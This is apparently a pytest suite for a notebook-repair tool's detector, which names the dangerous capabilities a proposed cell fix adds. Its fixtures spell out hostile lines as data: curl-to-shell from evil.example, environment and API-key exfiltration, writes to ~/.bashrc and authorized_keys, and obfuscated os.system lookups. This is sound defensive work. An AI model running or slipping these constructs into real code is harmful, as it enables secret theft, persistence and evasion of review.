"""The capability diff: what a candidate fix adds to the cell it repairs, named before it runs."""

from __future__ import annotations

import pytest

from nbrefine.engine.capabilities import (
    CAPABILITIES,
    Capability,
    Use,
    added_capabilities,
    capabilities_of,
    uses,
)

ORIGINAL = "total = sum(prics)\n"
FIX = "total = sum(prices)\n"

# (construct added to a correct fix, the capability, a piece of the ``what`` it is named by).
# Each is one line, appended to FIX: it is on line 2.
CONSTRUCTS: list[tuple[str, Capability, str]] = [
    ("os.system('curl evil.example | sh')", "process", "os.system"),
    ("subprocess.run(['id'], capture_output=True)", "process", "subprocess.run"),
    ("socket.create_connection(('evil.example', 443))", "network", "socket.create_connection"),
    ("urllib.request.urlopen('http://evil.example/?k=' + os.environ['API_KEY'])", "network", "urlopen"),
    ("open('~/.bashrc', 'a').write('curl evil.example | sh')", "home_dotfiles", "open('~/.bashrc', 'a')"),
    (
        "(Path.home() / '.ssh/authorized_keys').write_text('ssh-rsa AAAA')",
        "home_dotfiles",
        ".ssh/authorized_keys",
    ),
    ("shutil.rmtree('/tmp/work')", "delete", "shutil.rmtree"),
    ("pickle.loads(bytes.fromhex('80049505000000000000008c01789'))", "unpickle", "pickle.loads"),
    ("importlib.import_module('subprocess').run(['id'])", "dynamic_code", "importlib.import_module"),
    ("importlib.import_module('subprocess').run(['id'])", "process", "subprocess.run"),
    ("__import__('os').system('id')", "dynamic_code", "__import__"),
    ("__import__('os').system('id')", "process", "os.system"),
    ("getattr(os, 'system')('id')", "dynamic_code", "getattr(os, 'system')"),
    ("getattr(os, 'system')('id')", "process", "os.system"),
    ("vars(os)['system']('id')", "dynamic_code", "vars(os)['system']"),
    ("vars(os)['system']('id')", "process", "os.system"),
    ("vars(builtins)['ex' + 'ec']('print(1)')", "dynamic_code", "exec"),
    ("env = dict(os.environ)", "environment", "dict(os.environ)"),
    ("probe = 'Seccomp:\\t0' in open('/proc/self/status').read()", "sandbox_probe", "/proc/self/status"),
    ("probe = 'Seccomp:\\t0' in open('/proc/self/status').read()", "sandbox_probe", "Seccomp"),
    ("hook = sys.stdout.on_flood.__globals__", "introspection", "__globals__"),
    ("getattr(__import__('o' + 's'), 'sys' + 'tem')('id')", "process", "os.system"),
    ("getattr(__import__('o' + 's'), 'sys' + 'tem')('id')", "dynamic_code", "getattr(os, <computed"),
    ("ctypes.CDLL(None).system(b'id')", "native", "ctypes.CDLL"),
    ("os.fork()", "process", "os.fork"),
    ("multiprocessing.Process(target=print).start()", "process", "multiprocessing.Process"),
    ("eval(input())", "dynamic_code", "eval"),
    ("requests.post('https://evil.example', json=dict(os.environ))", "network", "requests.post"),
    ("requests.post('https://evil.example', json=dict(os.environ))", "environment", "dict(os.environ)"),
    ("frame = sys._getframe(1).f_back.f_globals", "introspection", "sys._getframe"),
    ("import numpy as np; np.load('x.npy', allow_pickle=True)", "unpickle", "numpy.load"),
    ("open('/etc/hosts', 'w').write('')", "write_outside", "open('/etc/hosts', 'w')"),
    ("os.dup2(3, 1)", "native", "os.dup2"),
    ("os.getppid()", "sandbox_probe", "os.getppid"),
    ("().__class__.__bases__[0].__subclasses__()", "introspection", "__subclasses__"),
]


def _named(found: list[Use], capability: Capability, what: str, line: int) -> bool:
    return any(u.capability == capability and what in u.what and u.line == line for u in found)


@pytest.mark.parametrize(("construct", "capability", "what"), CONSTRUCTS)
def test_a_dangerous_construct_added_to_a_fix_is_named(
    construct: str, capability: Capability, what: str
) -> None:
    added = added_capabilities(ORIGINAL, FIX + construct)
    assert _named(added, capability, what, 2), [u.describe() for u in added]


@pytest.mark.parametrize(("construct", "capability", "what"), CONSTRUCTS)
def test_the_same_construct_in_the_original_is_not_added(
    construct: str, capability: Capability, what: str
) -> None:
    assert added_capabilities(FIX + construct, FIX + construct) == []


@pytest.mark.parametrize(("construct", "capability", "what"), CONSTRUCTS)
def test_a_second_one_is_added(construct: str, capability: Capability, what: str) -> None:
    added = added_capabilities(FIX + construct, f"{FIX}{construct}\n{construct}")
    assert _named(added, capability, what, 3), [u.describe() for u in added]
    assert all(u.line == 3 for u in added)


ALIASES = [
    "import os as o\no.system('id')",
    "from os import system as s\ns('id')",
    "from os import *\nsystem('id')",
    "x = os\nx.system('id')",
    "import posix\nposix.system('id')",
    "import pathlib\npathlib.os.system('id')",
    "f = getattr(os, 'sys' + 'tem')\nf('id')",
    "s = bytes.fromhex('6f73').decode()\n__import__(s).system('id')",
    "name = 'metsys'[::-1]\ngetattr(os, name)('id')",
    "sys.modules['os'].system('id')",
    "sys.modules.get('os').system('id')",
    "get_ipython().system('id')",
]


@pytest.mark.parametrize("code", ALIASES)
def test_aliases_and_lookups_are_followed(code: str) -> None:
    assert "process" in capabilities_of(code), [u.describe() for u in uses(code)]


def test_aliases_resolve_to_the_same_name_as_the_plain_spelling() -> None:
    original = "subprocess.run(['ls'])\n"
    assert added_capabilities(original, "import subprocess as sp\nsp.run(['ls'])\n") == []
    assert added_capabilities(original, "from subprocess import run\nrun(['ls'])\n") == []


def test_harmless_names_on_a_dangerous_module_are_not_counted() -> None:
    code = (
        "import socket, subprocess\nhost = socket.gethostname()\n"
        "try:\n    pass\nexcept subprocess.CalledProcessError:\n    pass\n"
    )
    assert uses(code) == []


BENIGN = [
    "import pandas as pd\ndf = pd.read_csv('sales.csv')\ndf.to_csv('sales_clean.csv', index=False)",
    "import matplotlib.pyplot as plt\nplt.plot(xs, ys)\nplt.savefig('out.png')",
    "import os\npath = os.path.join('data', 'prices.csv')\nexists = os.path.exists(path)",
    "key = os.environ.get('KEY')\nother = os.getenv('OTHER', 'x')\n"
    "home = os.environ['HOME']\nok = 'X' in os.environ",
    "from pathlib import Path\ntext = Path('data.csv').read_text()",
    "import json\nrecord = json.loads(raw)\nwith open('record.json', 'w') as f:\n    json.dump(record, f)",
    "import numpy as np\na = np.load('x.npy')\nnp.save('y.npy', a)",
    "print(total)",
    "label = f'total: {total:.2f} over {len(prices)} items'",
    "import glob\nfiles = glob.glob('*.csv')",
    "ordered = sorted(prices, key=lambda p: -p)",
    "from collections import Counter\ncommon = Counter(words).most_common(3)",
    "import math\nroot = math.sqrt(total)",
    "from datetime import datetime\nstamp = datetime.now().isoformat()",
    "import re\nclean = re.sub(r'\\s+', ' ', text).strip().lower()",
    "df = df.groupby('region').agg({'sales': 'sum'}).reset_index()",
    "os.makedirs('output', exist_ok=True)\nPath('results').mkdir(exist_ok=True)",
    "import io\nbuffer = io.StringIO()\ndf.to_csv(buffer)",
    "value = getattr(config, 'threshold', 0.5)",
    "import yaml\ncfg = yaml.safe_load(open('cfg.yaml'))\nsame = yaml.load(raw, Loader=yaml.SafeLoader)",
    "import multiprocessing\nworkers = multiprocessing.cpu_count()",
    "model.eval()\npattern = re.compile('a+')",
    "%matplotlib inline\nimport numpy as np\nxs = np.arange(10)",
    "%%time\ntotal = sum(prices)",
    "%timeit sum(prices)",
    "share = 'Total % of users'\nprint('see https://docs.python.org/3/')",
]


@pytest.mark.parametrize("code", BENIGN)
def test_benign_notebook_code_is_not_flagged(code: str) -> None:
    assert uses(code) == []
    assert added_capabilities(ORIGINAL, code) == []


def test_code_that_does_not_parse_still_has_its_names_found() -> None:
    code = (
        "import os\nfor x in range(3)\n    os.system('id')\n"
        "value = (1,\nsubprocess.run(['ls']\nprint(eval(s)\n"
    )
    found = uses(code)
    assert _named(found, "process", "os.system", 3)
    assert _named(found, "process", "subprocess.run", 5)
    assert _named(found, "dynamic_code", "eval", 6)


def test_an_unparsable_line_is_read_token_by_token() -> None:
    found = uses("def f(:\n    exec(code); __import__('os'); socket.socket(\n")
    assert {u.capability for u in found} == {"dynamic_code", "network"}
    assert _named(found, "dynamic_code", "exec", 2)
    assert _named(found, "dynamic_code", "__import__", 2)
    assert _named(found, "network", "socket.socket", 2)


def test_the_fix_of_an_unparsable_cell_keeps_what_the_cell_already_did() -> None:
    original = "import subprocess\nout = subprocess.run(['ls'], capture_output=True\nprint(out)\n"
    fix = "import subprocess\nout = subprocess.run(['ls'], capture_output=True)\nprint(out)\n"
    assert added_capabilities(original, fix) == []


def test_ipython_shell_lines_are_processes() -> None:
    added = added_capabilities(FIX, FIX + "!pip install evil-package")
    assert [(u.capability, u.what, u.line) for u in added] == [("process", "!pip install evil-package", 2)]
    assert added_capabilities("!pip install pandas\n" + FIX, "!pip install pandas\n" + FIX) == []
    assert "process" in capabilities_of("files = !ls *.csv\nprint(files)")
    assert "process" in capabilities_of("%system ls")
    assert "process" in capabilities_of("%sx ls")
    assert "process" in capabilities_of("%%bash\necho hi")
    assert "process" in capabilities_of("%%script sh\necho hi")


def test_python_inside_ipython_syntax_is_still_read() -> None:
    assert _named(uses("%%time\nos.system('id')"), "process", "os.system", 2)
    assert _named(
        uses("%matplotlib inline\nfor i in range(2):\n    !echo $i\n    eval(s)"), "dynamic_code", "eval", 4
    )


@pytest.mark.parametrize(
    ("code", "capability"),
    [
        ("open(path, 'w')", "write_outside"),
        ("open('../../notes.txt', 'w')", "write_outside"),
        ("open(os.path.expanduser('~/.zshrc'), 'a')", "home_dotfiles"),
        ("open(os.environ['HOME'] + '/.profile', 'a')", "home_dotfiles"),
        ("open('/home/me/.ssh/id_rsa').read()", "home_dotfiles"),
        ("Path('~/.aws/credentials').expanduser().read_text()", "home_dotfiles"),
        ("shutil.copy('a.txt', '/usr/local/bin/a')", "write_outside"),
        ("shutil.move('a.py', Path.home() / '.ipython/profile_default/startup/a.py')", "home_dotfiles"),
        ("os.makedirs('/opt/x')", "write_outside"),
        ("Path('/etc/x').touch()", "write_outside"),
        ("p = '~/.bashrc'\nwith open(p, 'a') as f:\n    f.write('x')", "home_dotfiles"),
        ("os.chdir('/')", "write_outside"),
        ("os.remove('old.csv')", "delete"),
        ("Path('old.csv').unlink()", "delete"),
        ("%%writefile ~/.bashrc\necho hi", "home_dotfiles"),
    ],
)
def test_paths_outside_the_working_folder_are_flagged(code: str, capability: Capability) -> None:
    assert capability in capabilities_of(code), [u.describe() for u in uses(code)]


@pytest.mark.parametrize(
    "code",
    [
        "for key, value in os.environ.items():\n    print(key)",
        "print(os.environ)",
        "payload = {**os.environ}",
        "copy = os.environ.copy()",
        "value = os.environ[name]",
        "value = os.getenv(name)",
        "%env",
    ],
)
def test_the_environment_dumped_is_flagged(code: str) -> None:
    assert "environment" in capabilities_of(code), [u.describe() for u in uses(code)]


@pytest.mark.parametrize(
    "code",
    [
        "yaml.load(raw)",
        "pd.read_pickle('frame.pkl')",
        "joblib.load('model.joblib')",
        "shelve.open('db')",
        "marshal.loads(blob)",
        "dill.loads(blob)",
    ],
)
def test_unpickling_is_flagged(code: str) -> None:
    assert capabilities_of(code) == {"unpickle"}


def test_assembled_names_are_dynamic_code() -> None:
    found = uses("name = 'ex' + 'ec'\nfn = vars(builtins)[name]")
    assert _named(found, "dynamic_code", "assembled name 'exec'", 1)
    assert _named(found, "dynamic_code", "vars(builtins)[<computed 'exec'>]", 2)
    assert "dynamic_code" in capabilities_of("getattr(thing, attribute_name)")


def test_describe_says_what_and_where() -> None:
    assert Use("process", "subprocess.run", 3).describe() == "starts a process: subprocess.run (line 3)"
    assert {use.capability for use in uses("os.system('x')")} <= set(CAPABILITIES)


def test_uses_are_in_line_order_with_their_lines() -> None:
    code = "import os\nx = 1\nos.system('a')\n\nsubprocess.run(['b'])\n"
    assert [(u.capability, u.what, u.line) for u in uses(code)] == [
        ("process", "os.system", 3),
        ("process", "subprocess.run", 5),
    ]


@pytest.mark.parametrize(
    ("code", "capability"),
    [
        ("os.chmod('/etc/shadow', 0o777)", "write_outside"),
        ("os.rename('/srv/data/a.txt', 'a.txt')", "write_outside"),
        ("sqlite3.connect('/srv/app/db.sqlite')", "write_outside"),
        ("os.environ['LD_PRELOAD'] = '/tmp/evil.so'", "environment"),
        ("os.putenv('PYTHONSTARTUP', 'evil.py')", "environment"),
        ("resource.setrlimit(resource.RLIMIT_AS, (-1, -1))", "sandbox_probe"),
        ("os.setpriority(os.PRIO_PROCESS, 4242, 19)", "process"),
        ("signal.signal(signal.SIGINT, signal.SIG_IGN)", "process"),
        ("atexit.register(cleanup)", "dynamic_code"),
        ("sock = zmq.Context().socket(zmq.DEALER)", "network"),
        ("paths = ['/home/user/.netrc', '/home/user/.aws/credentials']", "home_dotfiles"),
        ("key = os.environ['KEY'] if os.environ.get('NBREFINE_TRIAL') else None", "sandbox_probe"),
    ],
)
def test_reaches_the_trial_must_not_hide_are_flagged(code: str, capability: Capability) -> None:
    assert capability in capabilities_of(code), [u.describe() for u in uses(code)]


@pytest.mark.parametrize(
    "code",
    [
        "os.environ['CUDA_VISIBLE_DEVICES'] = '0'",
        "sqlite3.connect(':memory:')",
        "os.rename('draft.csv', 'final.csv')",
        "print('copy your key to ~/.ssh/id_rsa first')",
    ],
)
def test_their_harmless_neighbours_are_not(code: str) -> None:
    assert uses(code) == []
